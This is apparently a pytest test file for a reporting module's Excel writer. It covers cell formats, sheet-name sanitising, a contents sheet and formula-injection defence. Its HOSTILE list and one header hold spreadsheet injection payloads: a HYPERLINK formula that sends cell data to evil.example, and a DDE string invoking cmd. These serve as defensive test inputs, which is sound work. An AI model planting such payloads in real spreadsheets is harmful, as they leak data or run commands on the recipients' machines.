"""report.xlsx (reporting.workbook): formats, frozen headers, sheet names, hostile text."""

from __future__ import annotations

import pandas as pd
import pytest

from reporting.workbook import (
    Sheet,
    number_format,
    sheet_names,
    sheets_from_payload,
    write_workbook,
)

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)",
           "\tTab", "\rCR", "http://evil.example/x", "<script>alert(1)</script>"]


def _book(tmp_path, sheets, **kw):
    path = tmp_path / "report.xlsx"
    names = write_workbook(path, sheets, **kw)
    return names, openpyxl.load_workbook(path)


def _table():
    return pd.DataFrame({
        "rep": ["Ann", HOSTILE[0], "-3"],
        "won": [3, 0, 12000],
        "rate": [0.5, None, 1.0],
        "value": [1234.5, float("nan"), -20.0],
        "when": [pd.Timestamp("2026-10-31 13:00"), pd.NaT, pd.Timestamp("2026-01-02")],
        "ignored": ["x", "y", "z"],
    })


COLS = [("rep", "Rep", "text"), ("won", "Won", "int"), ("rate", "Win rate", "pct"),
        ("value", "Value (USD)", "money"), ("when", "Last activity", "date")]


def test_numbers_dates_and_formats(tmp_path):
    names, wb = _book(tmp_path, [Sheet("Win rate by rep", _table(), COLS, "Win rate")],
                      currency="USD")
    assert names == ["Contents", "Win rate by rep"] == wb.sheetnames
    ws = wb["Win rate by rep"]
    assert [c.value for c in ws[1]] == ["Rep", "Won", "Win rate", "Value (USD)",
                                        "Last activity"]  # the 'ignored' column is left out
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:E4"
    won, rate, value, when = ws["B2"], ws["C2"], ws["D2"], ws["E2"]
    assert (won.value, won.number_format) == (3, "#,##0")
    assert (rate.value, rate.number_format) == (0.5, "0%")
    assert (value.value, value.number_format) == (1234.5, "[$USD] #,##0")
    assert when.is_date and when.value.date() == pd.Timestamp("2026-10-31").date()
    assert when.number_format == "yyyy-mm-dd"
    assert ws["C3"].value is None and ws["D3"].value is None and ws["E3"].value is None
    assert ws["D4"].value == -20.0  # a negative number stays a number
    assert ws.column_dimensions["A"].width >= len(HOSTILE[0])


def test_hostile_text_stays_text(tmp_path):
    frame = pd.DataFrame({"name": HOSTILE, "n": range(len(HOSTILE))})
    _, wb = _book(tmp_path, [Sheet(HOSTILE[0], frame, [("name", "=cmd|'/C calc'!A0", "text"),
                                                        ("n", "N", "int")], HOSTILE[0])])
    ws = wb.worksheets[1]
    values = [ws.cell(row=i, column=1) for i in range(2, len(HOSTILE) + 2)]
    # written as they are, not as formulas (a CR is stored as XML's _x000D_ escape)
    assert [c.value.replace("_x000D_", "\r") for c in values] == HOSTILE
    assert all(c.data_type == "s" for c in values)
    assert [c.quotePrefix for c in values] == [True] * 6 + [False, False]
    assert not ws.cell(row=8, column=1).hyperlink  # a URL is not a link
    head = ws.cell(row=1, column=1)
    assert head.data_type == "s" and head.quotePrefix  # a hostile header too
    toc = wb["Contents"]
    assert toc.cell(row=2, column=2).value == HOSTILE[0] and toc.cell(row=2, column=2).quotePrefix
    for sheet in wb.worksheets:  # no formula anywhere
        assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_sheet_names_are_sanitised_and_unique():
    long = "Bookings against quota in November 2026 by rep"
    names = sheet_names(["a[b]:c*d?e/f\\g", long, long, "", "'quoted'", "History",
                         "contents", "x" * 40, "x" * 40], reserved=["Contents"])
    assert names[0] == "a b c d e f g"
    assert names[1] == long[:31].rstrip() and len(names[2]) <= 31 and names[2].endswith("(2)")
    assert names[3] == "Sheet" and names[4] == "quoted" and names[5] != "History"
    assert names[6] == "contents (2)"  # taken by the contents sheet, whatever the case
    assert all(len(n) <= 31 for n in names)
    assert len({n.casefold() for n in names}) == len(names)


def test_contents_links_every_sheet_and_persian_is_right_to_left(tmp_path):
    frame = pd.DataFrame({"group": ["علی"], "won": [1200]})
    sheets = [Sheet("نرخ برد به تفکیک کارشناس", frame, [("group", "کارشناس", "text"),
                                                       ("won", "برده", "int")], "نرخ برد"),
              Sheet("نرخ برد به تفکیک کارشناس", frame, [("group", "کارشناس", "text")], "")]
    names, wb = _book(tmp_path, sheets, language="fa", contents="فهرست",
                      contents_labels=("برگه", "محتوا"), title="Acme: EMEA")
    assert names[0] == "فهرست" and names[2].endswith("(2)")
    toc = wb["فهرست"]
    assert toc["A1"].value == "Acme: EMEA" and toc["A3"].value == "برگه"
    assert toc["A4"].value == names[1] and toc["A4"].hyperlink.location == f"'{names[1]}'!A1"
    ws = wb[names[1]]
    assert ws.sheet_view.rightToLeft and ws["B2"].value == 1200  # numbers stay numbers


def test_money_format_takes_only_a_currency_code():
    assert number_format("money", "EUR") == "[$EUR] #,##0"
    assert number_format("money", '"]; evil') == "[$evi] #,##0"
    assert number_format("money", "") == "#,##0" and number_format("text") is None


def test_payload_round_trip_keeps_dates(tmp_path):
    payload = {"sheets": [{"sheet": "Deals 1 Ann", "caption": "c",
                           "columns": [["id", "Deal", "text"], ["last", "Last", "date"]],
                           "rows": [["D1", "2026-10-30T15:00:00"], ["D2", None]]}]}
    (s,) = sheets_from_payload(payload)
    assert s.frame["last"].iloc[0] == pd.Timestamp("2026-10-30 15:00") and pd.isna(
        s.frame["last"].iloc[1])
    _, wb = _book(tmp_path, [s])
    assert wb["Deals 1 Ann"]["B2"].is_date


def test_formula_starts_are_textsafes():
    from reporting import textsafe, workbook

    assert workbook.FORMULA_START == textsafe.FORMULA_START
